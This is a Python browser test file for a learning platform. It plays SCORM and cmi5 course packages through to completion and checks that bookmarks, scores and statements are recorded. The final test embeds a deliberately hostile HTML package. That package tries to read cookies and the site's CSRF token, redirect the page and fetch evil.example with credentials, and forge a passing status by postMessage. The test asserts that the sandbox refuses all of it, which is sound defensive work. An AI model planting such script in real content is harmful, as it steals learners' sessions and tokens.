"""Packages of others, played in a real browser: SCORM of both kinds, cmi5, and one that means harm."""

import json
import time

from content.models import LaunchStatement, Package, UnitDocument, UnitState
from content.services import package_create, unit_open, unit_report
from ecosystem.scope import open_scope
from records.models import Statement
from tests.content.making import upload
from tests.content.zips import manifest, sample, zipped


def brought_in(env, title: str, data: bytes) -> None:
    with open_scope(environment_id=env.pk):
        package_create(title=title, upload=upload("x.zip", data), creators=["Ada"])


def wait(check, seconds: float = 20) -> None:
    end = time.monotonic() + seconds
    while not check():
        assert time.monotonic() < end, "it did not happen"
        time.sleep(0.2)


def state(env, slug: str, position: int = 0) -> UnitState | None:
    with open_scope(environment_id=env.pk):
        rows = UnitState.objects.filter(element__slug=slug).order_by("pk")
        return rows[position : position + 1].first()


def verbs(env, slug: str) -> set[str]:
    with open_scope(environment_id=env.pk):
        return set(Statement.objects.filter(element__slug=slug).values_list("verb", flat=True))


def inside(visitor, name: str):
    """The frame of the package whose address holds ``name``, once it is there."""
    found: list = []

    def look() -> bool:
        found[:] = [frame for frame in visitor.page.frames if name in frame.url]
        visitor.page.wait_for_timeout(50)
        return bool(found)

    wait(look)
    found[0].wait_for_load_state("load")
    return found[0]


def scorm_2004_to_the_end_with_bookmark_and_score(env, visitor):
    brought_in(env, "Golf", sample("golf-scorm2004.zip"))
    asked: list[str] = []
    visitor.page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.accept()))
    visitor.go("/packages/golf/")
    visitor.press("Begin")
    course = inside(visitor, "launchpage.html")
    inside(visitor, "Playing/Playing.html")
    visitor.look("2-playing", shoot_desktop=True)
    for _step in range(3):
        course.click("#butNext")
    inside(visitor, "Playing/OtherScoring.html")
    visitor.page.click("[data-leave]")
    visitor.page.wait_for_url("**/packages/golf/")
    assert state(env, "golf").cmi["location"] == "3"
    visitor.look("3-begun").press("Go on")
    course = inside(visitor, "launchpage.html")
    inside(visitor, "Playing/OtherScoring.html")
    assert "resume" in asked[0], "the bookmark was not given back"
    for _step in range(11):
        course.click("#butNext")
    test = inside(visitor, "assessmenttemplate.html")
    # Right answers are told by the class of their boxes; of the three kinds, each is answered as a learner would.
    test.evaluate(
        """() => { for (const box of document.querySelectorAll('.correctAnswer')) {
            const field = box.querySelector('input');
            if (field.type === 'radio') field.click(); else field.value = box.textContent.match(/\\((.*)\\)/)[1];
        } }"""
    )
    test.click("input[type=button]")
    wait(lambda: (row := state(env, "golf")) is not None and row.status == "passed")
    assert state(env, "golf").score == 1
    course.click("#butExit")
    visitor.page.wait_for_url("**/packages/golf/")
    visitor.look("4-passed", shoot_desktop=True)
    assert {"launched", "passed", "completed"} <= verbs(env, "golf")


def scorm_12_with_many_parts(env, visitor):
    """The first and the last are played; those between, which are alike, are reported as a player reports them."""
    brought_in(env, "Parts", sample("golf-scorm12.zip"))
    a_part_is_played(env, visitor, 1)
    with open_scope(environment_id=env.pk, person_id=visitor.person.person_id):
        package = Package.objects.get(element__slug="parts")
        for unit in package.units.filter(position__range=(2, 17)).order_by("position"):
            unit_open(package=package, unit=unit)
            unit_report(package=package, unit=unit, cmi={"core": {"lesson_status": "completed"}}, sequence=1)
    assert "completed" not in verbs(env, "parts")
    a_part_is_played(env, visitor, 18)
    visitor.look("5-parts", shoot_desktop=True)
    assert "18 of 18" in visitor.text()
    assert "completed" in verbs(env, "parts")


def a_part_is_played(env, visitor, position: int) -> None:
    visitor.go(f"/packages/parts/{position}/")
    inside(visitor, "/files/")
    visitor.page.wait_for_timeout(150)
    visitor.page.click("[data-leave]")
    visitor.page.wait_for_url("**/packages/parts/")
    wait(lambda: (row := state(env, "parts", position - 1)) is not None and row.status == "completed")


def cmi5_to_the_end_with_bookmark_and_score(env, visitor):
    brought_in(env, "Geology", sample("geology-cmi5.zip"))
    visitor.page.on("dialog", lambda dialog: dialog.accept())
    visitor.go("/packages/geology/1/")
    course = inside(visitor, "/files/index.html")
    course.wait_for_function("course.currentPageIdx === 0 && document.querySelector('#page1 h1, #page1')")
    wait(lambda: "initialized" in cmi5_verbs(env))
    for step in range(3):  # one after the other: the course does not wait for its last bookmark to arrive
        if step:
            course.evaluate("course.nextPage()")
        page = course.evaluate("course.pageList[course.currentPageIdx]")
        wait(lambda page=page: kept(env) == page)
    visitor.look("6-cmi5")
    visitor.page.click("[data-leave]")
    visitor.page.wait_for_url("**/packages/geology/")
    visitor.go("/packages/geology/1/")
    course = inside(visitor, "/files/index.html")
    wait(lambda: cmi5_verbs(env).count("initialized") == 2)
    course.click("#bookmark-overlay .resume-button")
    course.wait_for_function("course.currentPageIdx === 2")  # the bookmark was given back
    for _step in range(5):
        course.evaluate("course.nextPage()")
    course.evaluate("course.autopass()")
    course.evaluate("course.submitAnswers()")
    wait(lambda: {"passed", "completed"} <= verbs(env, "geology"))
    assert state(env, "geology").score == 1
    course.evaluate("course.exit()")
    visitor.page.wait_for_url("**/packages/geology/")
    assert "100%" in visitor.text()
    assert "terminated" in cmi5_verbs(env)


def cmi5_verbs(env) -> list[str]:
    with open_scope(environment_id=env.pk):
        return [verb.rsplit("/", 1)[-1] for verb in LaunchStatement.objects.values_list("verb", flat=True)]


def kept(env) -> str | None:
    """The page of the bookmark."""
    found = bookmark(env)
    return json.loads(found.body)["bookmark"] if found else None


def bookmark(env) -> UnitDocument | None:
    with open_scope(environment_id=env.pk):
        return UnitDocument.objects.exclude(key="LMS.LaunchData").first()


EVIL = b"""<!doctype html><title>evil</title><script>
const found = {};
const attempt = (name, act) => { try { found[name] = String(act()); } catch (error) { found[name] = 'refused: ' + error.name; } };
attempt('cookies', () => document.cookie);
attempt('document of the site', () => top.document.title);
attempt('store of the site', () => top.localStorage.length);
attempt('token', () => top.document.querySelector('[name=csrfmiddlewaretoken]').value);
attempt('address', () => top.location.href);
attempt('leave', () => { top.location = 'https://evil.example/'; return 'went'; });
(async () => {
  for (const [name, path] of [['site', document.body.dataset.site + '/me/profile/'], ['elsewhere', 'https://evil.example/']]) {
    try { found[name] = String((await fetch(path, {credentials: 'include'})).status); } catch (error) { found[name] = 'refused: ' + error.name; }
  }
  window.found = found;
})();
for (const origin of ['*']) top.postMessage({kind: 'state', cmi: {core: {lesson_status: 'passed'}}}, origin);
</script>"""


def a_package_that_means_harm_finds_nothing(env, visitor):
    page = EVIL.replace(b"<script>", b"<body data-site='%s'><script>" % visitor.base.encode(), 1)
    brought_in(env, "Evil", zipped({"imsmanifest.xml": manifest("index.html"), "index.html": page}))
    visitor.go("/packages/evil/1/")
    course = inside(visitor, "/files/index.html")
    course.wait_for_function("window.found")
    found = course.evaluate("window.found")
    assert found.pop("cookies") == ""
    assert {name: words for name, words in found.items() if not words.startswith("refused")} == {}
    assert visitor.page.url.endswith("/packages/evil/1/")
    visitor.page.wait_for_timeout(500)
    # Only the frame of the page itself is heard, not a frame inside it.
    assert state(env, "evil").status == "begun"
